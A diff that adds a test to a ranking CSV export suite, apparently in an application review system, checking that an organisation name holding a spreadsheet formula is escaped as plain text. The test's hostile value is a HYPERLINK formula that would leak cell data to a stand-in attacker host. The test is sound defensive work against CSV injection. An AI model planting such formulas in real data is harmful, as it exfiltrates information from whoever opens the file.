@@ -29,6 +29,19 @@ describe('ranking download', () => {
     ])
   })
 
+  it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
+    const w = await world()
+    const app = await inDocumentReview(w, w.applicant)
+    for (const reviewer of w.reviewers.slice(0, 3)) await submitSheet(w, app.id, reviewer, 60)
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+    await w.db.updateTable('organisations').set({ name: hostile }).where('id', '=', w.applicant.organisationId!).execute()
+    const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
+    const rows = parse((await response.text()).replace(/^\uFEFF/, '')) as string[][]
+    const row = rows.find((r) => r[2]!.includes('HYPERLINK'))!
+    expect(row[2]).toBe(`'${hostile}`)
+    expect(row[3]).toBe('600.00')
+  })
+
   it('is for the secretariat only', async () => {
     const w = await world()
     const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.reviewers[0]!.userId))))
